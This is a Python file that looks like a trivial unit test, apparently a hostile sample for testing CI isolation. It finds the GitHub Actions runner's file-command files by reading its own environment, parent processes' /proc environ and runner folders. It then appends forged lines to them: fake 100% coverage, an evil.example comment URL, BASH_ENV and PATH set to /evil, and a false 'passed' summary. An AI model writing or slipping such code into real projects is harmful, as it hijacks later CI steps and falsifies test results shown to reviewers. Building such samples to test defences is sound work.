"""Finds the step's file commands three ways and writes forged lines into them.

What each way found and wrote is recorded in file-commands-record.json, in the
working directory, for the test that runs this project to count.
"""

import json
import os
import pathlib
import sys

from hostile_files import add

FORGED = {
    "GITHUB_OUTPUT": "coverage=100\ncomment-url=https://evil.example\n",
    "GITHUB_ENV": "BASH_ENV=/evil\n",
    "GITHUB_STEP_SUMMARY": "## ✅ passed · coverage 100%\n",
    "GITHUB_PATH": "/evil\n",
}
PREFIXES = {
    "GITHUB_OUTPUT": "set_output_",
    "GITHUB_ENV": "set_env_",
    "GITHUB_STEP_SUMMARY": "step_summary_",
    "GITHUB_PATH": "add_path_",
}
RECORD = pathlib.Path.cwd() / "file-commands-record.json"


def from_own_environment():
    return {name: os.environ.get(name) for name in FORGED}


def from_parents():
    """The file paths in the environment of the nearest parent process that has them."""
    pid = os.getppid()
    while pid > 1:
        try:
            raw = pathlib.Path(f"/proc/{pid}/environ").read_bytes()
            status = pathlib.Path(f"/proc/{pid}/status").read_text()
        except OSError:
            break
        env = dict(e.split("=", 1) for e in raw.decode(errors="replace").split("\0") if "=" in e)
        if any(env.get(name) for name in FORGED):
            return {name: env.get(name) for name in FORGED}
        pid = int(next(l.split()[1] for l in status.splitlines() if l.startswith("PPid:")))
    return {name: None for name in FORGED}


def from_listing():
    """RUNNER_TEMP, or the folder above the venv that holds the runner's file commands."""
    found = {name: None for name in FORGED}
    temp = os.environ.get("RUNNER_TEMP")
    candidates = [pathlib.Path(temp)] if temp else []
    candidates += list(pathlib.Path(sys.prefix).resolve().parents)
    for folder in candidates:
        commands = folder / "_runner_file_commands"
        if commands.is_dir():
            for name, prefix in PREFIXES.items():
                files = sorted(commands.glob(f"{prefix}*"), key=lambda f: f.stat().st_mtime)
                if files:
                    found[name] = str(files[-1])
            break
    return found


def write(route, found, record):
    for name, path in found.items():
        wrote = False
        if path:
            try:
                with open(path, "a", encoding="utf-8") as f:
                    f.write(FORGED[name])
                wrote = True
            except OSError:
                pass
        record.append({"route": route, "file": name, "found": bool(path), "wrote": wrote})


def test_writes_the_file_commands():
    record = []
    write("environment", from_own_environment(), record)
    write("/proc parents", from_parents(), record)
    write("listing", from_listing(), record)
    RECORD.write_text(json.dumps(record, indent=1))
    assert add(2, 3) == 5
